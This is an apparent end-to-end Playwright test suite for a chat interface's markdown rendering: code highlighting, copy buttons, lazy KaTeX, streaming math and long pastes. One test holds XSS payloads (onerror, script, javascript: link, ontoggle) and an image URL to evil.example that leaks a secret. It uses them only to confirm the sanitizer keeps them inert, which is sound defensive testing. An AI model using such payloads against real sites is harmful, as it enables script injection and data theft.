"""Code blocks, math and user messages as markdown, in real Chromium against the real
gateway: a code block's language label, its Copy code button (with and without the
Clipboard API), highlighting whose language module is fetched only when used, KaTeX
only when math appears, prices that stay text, half a formula mid-stream, and a user's
message rendered through the same sanitizer, hostile markup inert."""

from __future__ import annotations

import re
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Page, expect

from harness.chromium import ANSWER, CONTENT, PIECE, send, steer, wait_ready
from harness.servers import hold_at, release

pytestmark = pytest.mark.e2e

USER = '.msg[data-role="user"]'
CODE = "def greet(name):\n    return f'hi {name}'  # friendly\n"
CODE_DOC = f"Here it is:\n\n```python\n{CODE}```\n\nDone."
MATH_DOC = (
    "Euler: $e^{i\\pi} + 1 = 0$ holds, while prices like $5 and $10 stay text, as does \\$3.\n\n"
    "$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n"
    "After the formulas."
)


def loaded(page: Page, part: str, *, workers: bool = True) -> list[str]:
    """Paths of what the page (and, unless `workers` is false, its workers) fetched whose
    URL holds `part` (their own resource timing: what the service worker fetches to keep
    is not theirs). Highlighting runs in a worker (js/render/highlight-worker.js)."""
    names = page.evaluate(RESOURCES)
    for worker in page.workers if workers else ():
        names += worker.evaluate(RESOURCES)
    return sorted({urlparse(n).path for n in names if part in n})


RESOURCES = "() => performance.getEntriesByType('resource').map((e) => e.name)"


NO_CLIPBOARD_API = """
Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined, configurable: true });
window.__copied = null;
document.addEventListener('copy', (e) => {
  const t = e.target;
  window.__copied = t && 'value' in t ? t.value.slice(t.selectionStart, t.selectionEnd) : String(getSelection());
}, true);
"""


@pytest.mark.parametrize("clipboard_api", [True, False], ids=["clipboard-api", "fallback"])
def test_a_code_block_has_its_language_copy_code_and_highlighting_loaded_for_its_language_only(
    page: Page, gateway_url: str, clipboard_api: bool
) -> None:
    if clipboard_api:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=gateway_url)
    else:
        page.add_init_script(NO_CLIPBOARD_API)
    steer(page, "ttft_ms=0,tps=2000,echo=1", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    assert loaded(page, "/vendor/highlight.js/") == []  # nothing until a block needs it

    send(page, CODE_DOC)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    block = page.locator(f"{CONTENT} .md-code")
    expect(block).to_have_count(1)
    expect(block.locator(".md-code-lang")).to_have_text("python")
    code = block.locator("pre > code.language-python")
    expect(code).to_have_attribute("data-highlighted", "python")
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(code.locator(".hljs-comment")).to_have_text("# friendly")
    assert code.inner_text() == CODE  # highlighting changes no character
    # The core and this one language, nothing else; no KaTeX without math.
    assert loaded(page, "/vendor/highlight.js/") == ["/vendor/highlight.js/core.js", "/vendor/highlight.js/languages/python.js"]
    assert loaded(page, "/vendor/katex/") == []
    # ...by the highlighting worker: the page's own thread never loads highlight.js.
    assert loaded(page, "/vendor/highlight.js/", workers=False) == []

    button = page.locator(ANSWER).get_by_role("button", name="Copy code", exact=True)
    expect(button).to_have_count(1)
    button.click()
    expect(button).to_have_attribute("data-copied", "yes")
    expect(button).to_have_accessible_name("Copy code")  # the check mark is not part of its name
    if clipboard_api:
        assert page.evaluate("() => navigator.clipboard.readText()") == CODE.rstrip("\n")
    else:
        assert page.evaluate("() => window.__copied") == CODE.rstrip("\n")
        assert page.locator(".copy-buffer").count() == 0  # the scratch textarea is gone


# The highlighting worker cannot start (as in an engine without module workers) or its
# script fails to load: every other worker (Python's) starts as usual.
NO_HIGHLIGHT_WORKER = {
    "throws": """
      const Native = window.Worker;
      window.Worker = class extends Native {
        constructor(url, options) {
          if (options?.name === 'highlight') throw new TypeError('module workers are not supported');
          super(url, options);
        }
      };
    """,
    "fails": """
      const Native = window.Worker;
      window.Worker = class extends Native {
        constructor(url, options) {
          super(options?.name === 'highlight' ? '/js/render/no-such-worker.js' : url, options);
        }
      };
    """,
}


@pytest.mark.parametrize("how", sorted(NO_HIGHLIGHT_WORKER))
def test_without_its_worker_code_is_still_highlighted_on_the_pages_thread(page: Page, gateway_url: str, how: str) -> None:
    page.add_init_script(NO_HIGHLIGHT_WORKER[how])
    steer(page, "ttft_ms=0,tps=2000,echo=1", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, CODE_DOC)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    code = page.locator(f"{CONTENT} .md-code pre > code.language-python")
    expect(code).to_have_attribute("data-highlighted", "python")
    expect(code.locator(".hljs-comment")).to_have_text("# friendly")
    assert code.inner_text() == CODE
    # The page's own thread loaded highlight.js: the fallback, not the worker, did it.
    mine = loaded(page, "/vendor/highlight.js/", workers=False)
    assert mine == ["/vendor/highlight.js/core.js", "/vendor/highlight.js/languages/python.js"]


def test_math_is_typeset_lazily_and_prices_stay_text(page: Page, gateway_url: str) -> None:
    pieces = PIECE.findall(MATH_DOC)
    # Stalled in the middle of the first formula, after "$e^{i\pi}".
    stall_after = next(i for i, p in enumerate(pieces) if "\\pi" in p) + 1
    stall, key = hold_at(stall_after)
    steer(page, f"ttft_ms=0,tps=1000,echo=1,{stall}", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, "No math here, just $5 and $10.")
    release(gateway_url, key)  # this answer is long enough to reach the stall: let it go
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    expect(page.locator(f"{CONTENT} p")).to_have_text("No math here, just $5 and $10.")
    assert loaded(page, "/vendor/katex/") == []  # prices are not math: KaTeX not fetched

    page.get_by_role("button", name="New chat").click()
    send(page, MATH_DOC)
    answer = page.locator(ANSWER)
    # Half a formula mid-stream is text, and breaks nothing.
    expect(answer.locator(".content")).to_contain_text("Euler: $e^{i\\pi}", timeout=30_000)
    assert answer.get_attribute("data-state") == "streaming"
    assert answer.locator(".katex").count() == 0
    release(gateway_url, key)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)

    content = page.locator(CONTENT)
    expect(content.locator(".md-math .katex")).to_have_count(2)
    expect(content.locator(".md-math-display .katex-display")).to_have_count(1)
    assert content.locator(".md-math-error").count() == 0
    first = content.locator("p").first.inner_text()
    assert "prices like $5 and $10 stay text, as does $3." in first
    # MathML for screen readers, the TeX kept as its annotation.
    assert content.locator("annotation").first.text_content() == "e^{i\\pi} + 1 = 0"
    expect(content.locator("p").last).to_have_text("After the formulas.")
    assert "/vendor/katex/katex.mjs" in loaded(page, "/vendor/katex/")
    assert "/vendor/katex/katex.min.css" in loaded(page, "/vendor/katex/")


HOSTILE_USER = (
    "**bold** and `code`\nsecond line\n\n"
    "<img src=x onerror=\"window.__pwned='img'\"> <script>window.__pwned='script'</script>\n\n"
    "[click](javascript:window.__pwned='link') ![leak](https://evil.example/leak.png?q=SECRET)\n\n"
    "<details open ontoggle=\"window.__pwned='toggle'\"><summary>s</summary>x</details>\n\n"
    "```js\nlet a = 1;\n```"
)


def test_a_users_message_is_safe_markdown_and_hostile_markup_stays_inert(page: Page, gateway_url: str) -> None:
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    steer(page, "ttft_ms=0,tps=2000,tokens=5", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, HOSTILE_USER)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)

    for reloaded in (False, True):  # as sent, and as restored from history
        content = page.locator(f"{USER} .content")
        expect(content.locator("strong")).to_have_text("bold")
        expect(content.locator("p code")).to_have_text("code")
        assert content.locator("p").first.locator("br").count() == 1  # a typed line break is kept
        expect(content.locator(".md-code .md-code-lang")).to_have_text("js")
        assert content.locator("script, iframe, details[open]").count() == 0
        assert content.locator("img").count() == 1 and content.locator("img").get_attribute("src") is None
        assert content.locator("a", has_text="click").get_attribute("href") is None
        attributes = content.evaluate("(el) => [...el.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => a.name))")
        assert not [a for a in attributes if a.startswith("on") or a == "style"], attributes
        assert "<script>" in content.inner_text()  # shown as text, never parsed
        content.locator("a", has_text="click").click()
        assert page.evaluate("window.__pwned") is None
        if not reloaded:
            page.reload()
            wait_ready(page)
    assert not [u for u in requests if "evil" in u], requests


def test_streaming_math_renders_what_a_whole_render_does(page: Page, gateway_url: str) -> None:
    """Formulas split anywhere (half a formula, a lone `$`, a price) end as a whole render
    ends, and a formula left open never swallows the blocks after it."""
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    docs = [
        MATH_DOC,
        "Open $x^2 + y never closed\n\n## Heading after\n\n- item $a$ and $5\n- $$b$$ end",
        "Cost: $3.50, or $4 if late; $n$ items at $$\\sum_i p_i$$ total.\n\n`$x$` in code and\n\n```\n$not math$\n```",
    ]
    result = page.evaluate(
        """async (docs) => {
          const { MarkdownStream, renderMarkdown } = await import('/js/render/markdown-stream.js');
          const out = [];
          for (const doc of docs) {
            const whole = document.createElement('div');
            renderMarkdown(whole, doc);
            for (const pieces of [doc.match(/\\s*\\S+|\\s+/g), [...doc]]) {
              const el = document.createElement('div');
              const s = new MarkdownStream(el);
              for (const p of pieces) s.append(p);
              s.end();
              out.push({ same: el.innerHTML === whole.innerHTML, whole: whole.innerHTML, streamed: el.innerHTML });
            }
          }
          const open = document.createElement('div');
          renderMarkdown(open, docs[1]);
          return { out, heading: open.querySelectorAll('h2').length, items: open.querySelectorAll('li').length,
                   math: [...open.querySelectorAll('.md-math')].map((e) => e.dataset.tex ?? e.textContent) };
        }""",
        docs,
    )
    for case in result["out"]:
        assert case["same"], case
    assert result["heading"] == 1 and result["items"] == 2
    assert result["math"] == ["a", "b"]  # not "x^2 …" (never closed), not "5"


def test_the_compression_note_says_what_was_sent_and_explains_itself_on_tap(page: Page, gateway_url: str) -> None:
    page.goto(gateway_url + "/")
    wait_ready(page)
    pretty = 'Fix this:\n\n```json\n{\n    "name": "frame",\n    "sizes": [\n        16,\n        33\n    ]\n}\n```'
    send(page, pretty)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    # The reply's last change (its metrics) is in, so the view no longer moves under the tap.
    expect(page.locator(ANSWER)).to_have_attribute("data-metrics", re.compile("."), timeout=30_000)
    note = page.locator(f"{USER} details.saved")
    summary = note.locator("summary")
    expect(summary).to_have_text(re.compile(r"^sent [\d,]+ tokens instead of [\d,]+ \(−\d+%\)$"))
    sent, instead = (int(n.replace(",", "")) for n in re.findall(r"[\d,]+", summary.inner_text())[:2])
    assert 0 < sent < instead
    assert note.get_attribute("open") is None
    summary.click()  # a tap opens the explanation; the summary is a focusable disclosure
    expect(note).to_have_attribute("open", "")
    expect(note.locator("p")).to_contain_text("compressed: pretty JSON written compactly")
    summary.press("Enter")
    expect(note).not_to_have_attribute("open", "")


# A user's long paste, rendered by renderUserMarkdown beside a whole render of it
# (`whole`): the blocks the tap on Send's own task rendered (`first`), every source
# length marked lexed in that task (`tapLexed`) and in all (`lexed`), and whether the
# DOMs end up the same.
RENDER_PASTE = """async (doc) => {
  const { renderMarkdown, renderUserMarkdown } = await import('/js/render/markdown-stream.js');
  const { Lexer } = await import('/vendor/marked/marked.esm.js');
  const whole = document.createElement('div');
  whole.className = 'md md-user';
  renderMarkdown(whole, doc, { user: true });
  const lexed = [];
  const lex = Lexer.prototype.lex;
  Lexer.prototype.lex = function (src) { lexed.push(src.length); return lex.call(this, src); };
  try {
    const sliced = document.createElement('div');
    renderUserMarkdown(sliced, doc);
    const first = sliced.children.length;
    const tapLexed = [...lexed];
    const done = () => sliced.children.length === whole.children.length;
    if (!done()) {
      await new Promise((resolve) => {
        const o = new MutationObserver(() => { if (done()) { o.disconnect(); resolve(); } });
        o.observe(sliced, { childList: true });
      });
    }
    return { first, total: whole.children.length, same: sliced.innerHTML === whole.innerHTML, tapLexed, lexed };
  } finally {
    Lexer.prototype.lex = lex;
  }
}"""


def test_a_long_user_paste_is_lexed_and_rendered_in_slices_as_a_whole_render_does(page: Page, gateway_url: str) -> None:
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    doc = "\n\n".join(f"Block {i} with **bold**\nand a break\n\n```js\nlet v{i} = {i};\n```" for i in range(300))
    result = page.evaluate(RENDER_PASTE, doc)
    assert 0 < result["first"] < result["total"] == 600, result["first"]  # the first blocks at once, the rest later
    assert result["same"]
    # The tap's task lexed a few lines, not the paste (which it did, all of it, once);
    # and every line was lexed about once over the slices, not again in each.
    assert result["tapLexed"] and max(result["tapLexed"]) < len(doc) / 10, result["tapLexed"]
    assert sum(result["lexed"]) < 2 * len(doc), (sum(result["lexed"]), len(doc))


def test_a_pasted_list_longer_than_a_slice_is_one_list_as_a_whole_render_makes_it(page: Page, gateway_url: str) -> None:
    # One block longer than many slices: nothing is finished until its end, so each look
    # reaches twice as far as the last, and the lines are lexed a few times in all.
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    doc = "Steps:\n\n" + "".join(f"{i + 1}. step *{i}* of the plan\n" for i in range(1500)) + "\nDone."
    result = page.evaluate(RENDER_PASTE, doc)
    assert result["total"] == 3 and result["same"]
    assert sum(result["lexed"]) < 5 * len(doc), (sum(result["lexed"]), len(doc))


# A main thread that is never idle (a phone at 500 tok/s): idle callbacks run only when
# their deadline passes, as the browser runs them then; one with no deadline never runs.
SCROLL_TO = """(el) => {
  const chat = document.getElementById('chat'); // the conversation's scroller
  chat.dispatchEvent(new WheelEvent('wheel', { deltaY: -100 }));
  el.scrollIntoView({ block: 'center' });
}"""
BUSY_MAIN_THREAD = """
window.requestIdleCallback = (callback, options) => options && options.timeout
  ? setTimeout(() => callback({ didTimeout: true, timeRemaining: () => 0 }), options.timeout)
  : 0;
"""


def test_code_blocks_on_screen_are_highlighted_first_and_those_off_screen_only_when_near(page: Page, gateway_url: str) -> None:
    # A paste of twenty blocks, echoed: while the page is busy, only the blocks within a
    # screen of the viewport (the answer's newest ones) may take its time; the paste's
    # first blocks are far above from the moment it is sent.
    page.add_init_script(BUSY_MAIN_THREAD)
    steer(page, "ttft_ms=0,tps=2000,echo=1", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    doc = "\n\n".join(f"Block {i}:\n\n```python\n" + CODE.replace("greet", f"greet_{i}") * 3 + "```" for i in range(20))
    send(page, doc)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    codes = page.locator(f"{CONTENT} pre > code.language-python")
    expect(codes).to_have_count(20)
    expect(codes.nth(19)).to_have_attribute("data-highlighted", "python")  # the end, on screen
    pasted = page.locator(f"{USER} pre > code.language-python")
    expect(pasted).to_have_count(20)
    assert [pasted.nth(i).get_attribute("data-highlighted") for i in range(5)] == [None] * 5  # far above: they wait
    first = pasted.first
    # Scrolled to (by the user: a programmatic scroll alone is undone while the view
    # follows the end), it is highlighted within its deadline.
    for code in (first, pasted.nth(4)):
        code.evaluate(SCROLL_TO)
        expect(code).to_have_attribute("data-highlighted", "python")
